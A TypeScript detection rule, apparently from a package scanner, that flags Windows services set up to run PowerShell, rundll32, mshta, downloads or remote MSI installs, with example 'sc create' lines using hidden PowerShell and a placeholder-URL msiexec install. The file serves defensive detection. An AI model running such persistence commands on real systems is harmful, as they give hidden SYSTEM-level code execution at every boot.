import { isLibraryName } from '../../bundle/loader.js';
import type { CommandMeaning } from '../../commands/command-meaning.js';
import { isOddFolder } from '../../execution/odd-folder.js';
import { matchSteps } from '../evidence.js';
import type { Rule } from '../rule.js';

export const servicePersistence: Rule = {
  id: 'service-persistence',
  title: 'A service runs a script, a DLL or a download instead of a program',
  severity: 'medium',
  explanation:
    'The package creates a service whose command is a shell, PowerShell, rundll32 with a file that is not a library, or msiexec with a URL. Services are normally separate programs; such a command is a way to run as SYSTEM after every boot.',
  attack: ['T1543.003'],
  references: ['Microsoft Learn: sc.exe create'],
  match: (facts) =>
    matchSteps(facts, ({ command, meaning }) =>
      command.origin.kind === 'service' && isNoProgram(meaning)
        ? `service ${JSON.stringify(command.origin.name)} does not run a service program`
        : undefined,
    ),
  examples: [
    {
      what: 'PowerShell',
      runs: ['sc create x binPath= "powershell -w hidden -Command iex $env:x" start= auto'],
    },
    {
      what: 'a package from a URL',
      runs: ['sc create x binPath= "msiexec /q /i http://files.invalid/a" start= auto'],
    },
  ],
  counterExamples: [
    {
      what: 'a program',
      runs: ['sc create Queue binPath= "C:\\Program Files\\Example\\queue.exe" start= auto'],
    },
  ],
};

function isNoProgram(meaning: CommandMeaning): boolean {
  switch (meaning.kind) {
    case 'run-script':
      return /^(?:powershell|pwsh|mshta|regsvr32|rundll32)$/i.test(meaning.interpreter);
    case 'start-dll':
      return !isLibraryName(meaning.dll) || isOddFolder(meaning.dll);
    case 'msiexec-install':
      return meaning.remote;
    case 'download':
      return true;
    case 'start-program':
      return isOddFolder(meaning.program);
    default:
      return false;
  }
}
